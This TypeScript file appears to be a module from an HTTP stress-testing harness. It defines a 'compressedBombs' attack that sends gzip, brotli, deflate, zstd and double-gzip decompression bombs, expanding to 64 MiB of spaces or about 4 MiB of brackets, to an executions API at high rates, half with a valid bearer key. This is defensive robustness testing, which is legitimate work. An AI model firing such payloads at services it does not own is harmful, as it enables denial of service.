import { brotliCompressSync, constants, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib'
import type { Attack } from '../attack.ts'
import { askOften } from '../wire/ask-often.ts'
import { BODY_BYTES } from './half-sent-bodies.ts'

/** Far more than a body may have after decompression. */
const TOO_MUCH = 64 * 1024 * 1024

let bodies: ReturnType<typeof makeBombs> = []

export const compressedBombs: Attack = {
  title:
    '10 packed bodies a second that unpack to 64 MiB, or to 4 MiB of brackets; every other one with a good key',
  prepare() {
    bodies = makeBombs()
  },
  begin(aim, tally) {
    askOften(aim, tally, 10 * aim.strength, (number) => {
      const bomb = bodies[number % bodies.length]
      return {
        method: 'POST',
        path: '/api/v1/executions',
        headers: {
          'content-type': 'application/json',
          ...(bomb && { 'content-encoding': bomb.encoding, 'content-length': bomb.body.length }),
          ...(number % 4 < 2 && { authorization: `Bearer ${aim.apiKey}` }),
        },
        ...(bomb && { body: bomb.body }),
      }
    })
  },
}

function makeBombs(): Array<{ encoding: string; body: Buffer }> {
  const brotli = { params: { [constants.BROTLI_PARAM_QUALITY]: 4 } }
  return [Buffer.alloc(TOO_MUCH, ' '), Buffer.alloc(BODY_BYTES - 1, '[')].flatMap((content) => [
    { encoding: 'gzip', body: gzipSync(content) },
    { encoding: 'br', body: brotliCompressSync(content, brotli) },
    { encoding: 'deflate', body: deflateSync(content) },
    { encoding: 'zstd', body: zstdCompressSync(content) },
    { encoding: 'gzip, gzip', body: gzipSync(gzipSync(content)) },
  ])
}
